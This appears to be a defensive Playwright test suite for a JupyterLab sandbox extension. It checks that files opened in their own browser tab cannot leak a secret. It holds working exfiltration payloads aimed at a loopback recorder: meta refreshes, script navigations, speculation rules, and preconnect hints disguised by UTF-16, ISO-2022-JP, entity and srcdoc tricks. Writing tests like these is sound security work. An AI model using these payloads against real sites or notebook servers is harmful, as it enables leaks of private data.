"""A file a sandbox wrote, opened in a browser tab of its own, sends nothing out.

JupyterLab's "Open in New Browser Tab" loads ``/files/<path>`` as a page of its
own; so does nbconvert's HTML of a notebook (``/nbconvert/html/<path>``).
jupyter_server sandboxes those pages with ``allow-scripts``: a private session's
``report.html`` navigated the tab to an address holding its data (a ``<meta>``
refresh, a script), or made Chromium connect to one (a resource hint), as soon
as it was opened. Each file here is written as such a cell would write it;
the "attacker" is a recorder and listeners on 127.0.0.1.

Each attack runs twice: served by a plain loopback server with the headers
jupyter_server sends on its own (the Lab's policy plus ``sandbox
allow-scripts``), where it must reach the attacker (so the file is a real
attack in this Chromium), and served by the Lab with
``sandbox_kernel.lab_file_tabs``, where nothing may.
"""

from __future__ import annotations

import json
import mimetypes
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import nbformat
import pytest
from kernel_helpers import LoopbackHTTPServer, LoopbackListener, RecordingHTTPServer
from lab_helpers import LabServer, code_cell, with_inline_scripts
from playwright.sync_api import BrowserContext, Page, expect

from sandbox_kernel.lab_content_policy import content_security_policy

pytestmark = pytest.mark.timeout(300)

SECRET = "patient-4711"
FOLDER = "tabs"
XHTML = "http://www.w3.org/1999/xhtml"
SVG = "http://www.w3.org/2000/svg"
# Long enough for a refresh, a script's navigation and a preconnect to go out
# once the page loaded (each takes milliseconds here).
SETTLE_MS = 2500


@dataclass
class Attacker:
    """Where the attacks aim: HTTP requests are recorded by path; a resource
    hint opens a connection and sends nothing, so each hint file gets its own
    listener."""

    recorder: RecordingHTTPServer
    listeners: dict[str, LoopbackListener] = field(default_factory=dict)

    def port(self, name: str) -> int:
        if name not in self.listeners:
            self.listeners[name] = LoopbackListener()
        return self.listeners[name].port

    def heard(self, name: str) -> list[str]:
        hits = [path for path in self.recorder.heard if path.startswith(f"/{name}?")]
        listener = self.listeners.get(name)
        if listener is not None and listener.accepted:
            hits.append(f"{listener.accepted} connection(s)")
        return hits

    def close(self) -> None:
        for listener in self.listeners.values():
            listener.close()


def _hint_page(href: str, link: str = '<link rel="preconnect" href="{href}">') -> str:
    return f"<!doctype html><html><head>{link.format(href=href)}</head><body><p>report</p></body></html>"


def _hint_address(attacker: Attacker, name: str) -> str:
    return f"http://127.0.0.1:{attacker.port(name)}"


def _xhtml_link(href: str) -> str:
    return f'<h:link xmlns:h="{XHTML}" rel="preconnect" href="{href}"/>'


# name -> (file name, the file's bytes given the attacker)
ATTACKS: dict[str, tuple[str, Callable[[Attacker], bytes]]] = {
    "meta_refresh": (
        "meta_refresh.html",
        lambda a: (
            f'<html><head><meta http-equiv="refresh" content="0;url={a.recorder.base}/meta_refresh?d={SECRET}">'
            "</head><body>report</body></html>"
        ).encode(),
    ),
    "script_navigation": (
        "script_navigation.html",
        lambda a: (
            f'<p>report</p><script>location.href = "{a.recorder.base}/script_navigation?d={SECRET}"</script>'.encode()
        ),
    ),
    "preconnect": ("preconnect.html", lambda a: _hint_page(f"http://127.0.0.1:{a.port('preconnect')}").encode()),
    "preconnect_upper_case": (
        "preconnect_upper_case.html",
        lambda a: _hint_page(
            f"http://127.0.0.1:{a.port('preconnect_upper_case')}", '<LINK REL="PreConnect" HREF="{href}">'
        ).encode(),
    ),
    "preconnect_character_reference": (
        "preconnect_character_reference.html",
        lambda a: _hint_page(
            f"http://127.0.0.1:{a.port('preconnect_character_reference')}", '<link rel="pre&#99;onnect" href="{href}">'
        ).encode(),
    ),
    # A sandboxed page runs no script, so its <noscript> is parsed as markup.
    "preconnect_in_noscript": (
        "preconnect_in_noscript.html",
        lambda a: _hint_page(
            f"http://127.0.0.1:{a.port('preconnect_in_noscript')}",
            '<noscript><link rel="preconnect" href="{href}"></noscript>',
        ).encode(),
    ),
    # UTF-16 (chosen by the byte order mark) spells "<link" in other bytes.
    "preconnect_utf16": (
        "preconnect_utf16.html",
        lambda a: b"\xff\xfe" + _hint_page(f"http://127.0.0.1:{a.port('preconnect_utf16')}").encode("utf-16-le"),
    ),
    # ISO-2022-JP drops its escape sequences: "<" ESC ( B "link" reads "<link".
    "preconnect_iso2022jp": (
        "preconnect_iso2022jp.html",
        lambda a: (
            '<!doctype html><html><head><meta charset="iso-2022-jp"><\x1b(Blink rel="preconnect" '
            f'href="{_hint_address(a, "preconnect_iso2022jp")}"></head><body>report</body></html>'
        ).encode(),
    ),
    "svg_script": (
        "svg_script.svg",
        lambda a: (
            f'<svg xmlns="{SVG}"><script>location.href = "{a.recorder.base}/svg_script?d={SECRET}"</script></svg>'.encode()
        ),
    ),
    "svg_xhtml_link": (
        "svg_xhtml_link.svg",
        lambda a: f'<svg xmlns="{SVG}">{_xhtml_link(_hint_address(a, "svg_xhtml_link"))}</svg>'.encode(),
    ),
    # An XML entity spells the link with character references: no "<link" in the file.
    "svg_entity": (
        "svg_entity.svg",
        lambda a: (
            "<!DOCTYPE svg [<!ENTITY hint \"&#60;h:link xmlns:h='" + XHTML + "' rel='preconnect' "
            f"href='http://127.0.0.1:{a.port('svg_entity')}'/&#62;\">]>"
            f'<svg xmlns="{SVG}">&hint;</svg>'
        ).encode(),
    ),
    # A srcdoc frame's document spells its link with character references.
    "preconnect_in_srcdoc": (
        "preconnect_in_srcdoc.html",
        lambda a: (
            '<p>report</p><iframe title="report"srcdoc="&lt;link rel=&quot;preconnect&quot; '
            f'href=&quot;{_hint_address(a, "preconnect_in_srcdoc")}&quot;&gt;&lt;p&gt;x&lt;/p&gt;"></iframe>'
        ).encode(),
    ),
    # Speculation rules prefetch and prerender other origins, policy or not.
    "speculation_rules": (
        "speculation_rules.html",
        lambda a: (
            '<p>report</p><script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["'
            f'{a.recorder.base}/speculation_rules?d={SECRET}"]}}]}}</script>'
        ).encode(),
    ),
}


RUN_NO_SCRIPT = {"preconnect_in_noscript"}


def _write_attacks(folder: Path, attacker: Attacker) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for file_name, content in ATTACKS.values():
        (folder / file_name).write_bytes(content(attacker))


class JupyterHeadersServer(LoopbackHTTPServer):
    """Serves a folder on 127.0.0.1 with the headers jupyter_server's /files
    handler sends: the Lab's policy plus ``sandbox allow-scripts`` (or a bare
    ``sandbox`` with ``scripts=False``), the files as they are. The policy lets
    inline scripts run, as it did before they were allowed by hash only (and as
    jupyter_server's own does): the control of attacks that need a script."""

    def __init__(self, root: Path, scripts: bool = True) -> None:
        policy = with_inline_scripts(content_security_policy("/")) + (
            "; sandbox allow-scripts" if scripts else "; sandbox"
        )

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path = root / self.path.split("?", 1)[0].lstrip("/")
                if not path.is_file():
                    self.send_error(404)
                    return
                body = path.read_bytes()
                self.send_response(200)
                self.send_header("Content-Type", mimetypes.guess_type(path.name)[0] or "application/octet-stream")
                self.send_header("Content-Security-Policy", policy)
                self.send_header("X-DNS-Prefetch-Control", "off")
                self.send_header("X-Content-Type-Options", "nosniff")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(Handler)


def _open_each(context: BrowserContext, urls: list[str], shows: str | None = None) -> list[int]:
    """Open every URL in a tab of its own, let them settle, close them; the
    status of each page (and, with ``shows``, check each tab's text has it)."""
    pages, statuses = [], []
    try:
        for url in urls:
            tab = context.new_page()
            pages.append(tab)
            response = tab.goto(url, wait_until="load", timeout=30_000)
            statuses.append(response.status if response is not None else 0)
            if shows is not None:
                assert shows in tab.locator("body").inner_text(), url
        pages[-1].wait_for_timeout(SETTLE_MS)
    finally:
        for tab in pages:
            tab.close()
    return statuses


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    recorder = RecordingHTTPServer()
    found = Attacker(recorder)
    try:
        yield found
    finally:
        found.close()
        recorder.close()


def test_files_opened_in_a_tab_reach_nothing(page: Page, lab: LabServer, attacker: Attacker, tmp_path: Path) -> None:
    # Under jupyter_server's own headers, every file reaches the attacker.
    # A page that runs no script parses its <noscript> as markup: that file
    # is a control with the sandbox's allowances already removed.
    control_dir = tmp_path / "control"
    _write_attacks(control_dir, attacker)
    control, no_scripts = JupyterHeadersServer(control_dir), JupyterHeadersServer(control_dir, scripts=False)
    try:
        _open_each(
            page.context,
            [
                f"{(no_scripts if name in RUN_NO_SCRIPT else control).base}/{file_name}"
                for name, (file_name, _) in ATTACKS.items()
            ],
        )
    finally:
        control.close()
        no_scripts.close()
    silent = [name for name in ATTACKS if not attacker.heard(name)]
    assert not silent, f"these files reach nothing even under jupyter_server's headers: {silent}"

    fresh = Attacker(attacker.recorder)
    try:
        attacker.recorder.heard.clear()
        _write_attacks(lab.notebooks / FOLDER, fresh)
        statuses = _open_each(
            page.context, [lab.url(f"/files/{FOLDER}/{file_name}") for file_name, _ in ATTACKS.values()]
        )
        assert statuses == [200] * len(ATTACKS)  # each file was served, and shown
        reached = {name: fresh.heard(name) for name in ATTACKS if fresh.heard(name)}
        assert not reached, f"files opened in a tab reached the attacker: {reached}"
        assert attacker.recorder.heard == []
    finally:
        fresh.close()


def test_a_notebook_exported_to_html_in_a_tab_reaches_nothing(
    page: Page, lab: LabServer, attacker: Attacker, tmp_path: Path
) -> None:
    """nbconvert's HTML of a notebook a sandbox wrote: its markdown and HTML
    outputs go into the page as they are."""
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [
        nbformat.v4.new_markdown_cell(
            f'# Report\n\n<meta http-equiv="refresh" content="0;url={attacker.recorder.base}/nbconvert_refresh?d={SECRET}">'
        ),
        nbformat.from_dict(
            code_cell(
                "c1",
                "show()",
                outputs=[
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {
                            "text/html": f'<script>location.href = "{attacker.recorder.base}/nbconvert_script?d={SECRET}"</script>'
                        },
                    }
                ],
            )
        ),
    ]
    folder = lab.notebooks / FOLDER
    folder.mkdir(exist_ok=True)
    (folder / "exported.ipynb").write_text(nbformat.writes(notebook))

    from nbconvert import HTMLExporter

    control_dir = tmp_path / "control"
    control_dir.mkdir()
    exported = HTMLExporter().from_notebook_node(notebook)[0]
    # The template's own scripts come from a CDN: this suite contacts loopback only.
    (control_dir / "exported.html").write_text(
        re.sub(r'<script[^>]*\ssrc="https?://[^"]*"[^>]*>\s*</script>', "", exported)
    )
    control = JupyterHeadersServer(control_dir)
    try:
        _open_each(page.context, [f"{control.base}/exported.html"])
    finally:
        control.close()
    assert attacker.heard("nbconvert_refresh") or attacker.heard("nbconvert_script"), attacker.recorder.heard

    attacker.recorder.heard.clear()
    statuses = _open_each(page.context, [lab.url(f"/nbconvert/html/{FOLDER}/exported.ipynb")], shows="Report")
    assert statuses == [200]
    assert attacker.recorder.heard == []


def test_a_tab_still_shows_its_page(page: Page, lab: LabServer) -> None:
    """Text, inline styles and plain links are left as they were. (Files the
    page names, a stylesheet or an image of the workspace, do not load in such
    a tab with jupyter_server's own sandbox either: the page's origin is
    opaque, so the browser sends them without the login cookie.)"""
    folder = lab.notebooks / FOLDER
    folder.mkdir(exist_ok=True)
    (folder / "styled.html").write_text(
        '<!doctype html><html><head><link rel="stylesheet" type="text/css" href="style.css" />'
        "<link rel='icon' href='logo.png'><style>#styled { color: rgb(255, 0, 0); }</style></head>"
        '<body><p id="styled">styled</p><a href="https://example.org/">a link</a></body></html>'
    )
    page.goto(lab.url(f"/files/{FOLDER}/styled.html"), wait_until="load")
    expect(page.locator("#styled")).to_have_css("color", "rgb(255, 0, 0)")
    assert page.locator("link").evaluate_all("links => links.map(l => l.rel)") == ["stylesheet", "icon"]
    assert page.locator("a").get_attribute("href") == "https://example.org/"


def test_downloads_and_other_files_are_byte_exact(page: Page, lab: LabServer, attacker: Attacker) -> None:
    folder = lab.notebooks / FOLDER
    _write_attacks(folder, attacker)
    (folder / "data.json").write_text(json.dumps({"html": '<link rel="preconnect" href="x">'}))
    for name in ("preconnect.html", "preconnect_utf16.html", "svg_entity.svg", "data.json"):
        download = "&download=1" if name.endswith((".html", ".svg")) else ""
        response = page.request.get(lab.url(f"/files/{FOLDER}/{name}") + download)
        assert response.ok, name
        assert response.body() == (folder / name).read_bytes(), name
    shown = page.request.get(lab.url(f"/files/{FOLDER}/preconnect.html"))
    assert b'<x-link rel="preconnect"' in shown.body()
    assert shown.headers["content-security-policy"].rstrip().endswith("; sandbox")
    head = page.request.head(lab.url(f"/files/{FOLDER}/preconnect.html"))
    assert head.ok and head.headers["content-security-policy"].rstrip().endswith("; sandbox")


# An SVG as Adobe Illustrator writes it: its namespaces are entities.
ILLUSTRATOR_SVG = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
\t<!ENTITY ns_svg "http://www.w3.org/2000/svg">
\t<!ENTITY ns_xlink "http://www.w3.org/1999/xlink">
]>
<svg version="1.1" xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;" width="40" height="30" viewBox="0 0 40 30">
<rect width="40" height="30" fill="#c00"/>
</svg>
"""


def test_a_file_shown_as_an_image_is_sent_as_it_is(page: Page, lab: LabServer) -> None:
    """Only what the browser shows as a page is rewritten (Sec-Fetch-Dest,
    which no page can set): an SVG in a markdown image runs nothing and loads
    nothing, and renaming its entities would break it."""
    folder = lab.notebooks / FOLDER
    folder.mkdir(exist_ok=True)
    (folder / "illustrator.svg").write_text(ILLUSTRATOR_SVG)
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_markdown_cell("![figure](illustrator.svg)")]
    (folder / "figure.ipynb").write_text(nbformat.writes(notebook))
    page.goto(lab.url(f"/lab/tree/{FOLDER}/figure.ipynb?reset"), wait_until="domcontentloaded", timeout=60_000)
    figure = page.locator(".jp-RenderedMarkdown img")
    expect(figure).to_have_count(1, timeout=60_000)
    page.wait_for_function("img => img.complete", arg=figure.element_handle(), timeout=30_000)
    assert figure.evaluate("img => img.naturalWidth") == 40

    url = lab.url(f"/files/{FOLDER}/illustrator.svg")
    as_image = page.request.get(url, headers={"Sec-Fetch-Dest": "image"})
    assert as_image.body() == ILLUSTRATOR_SVG.encode()
    assert "sec-fetch-dest" in as_image.headers.get("vary", "").lower()
    as_page = page.request.get(url, headers={"Sec-Fetch-Dest": "document"})
    assert b"<!x-ENTITY ns_svg" in as_page.body()
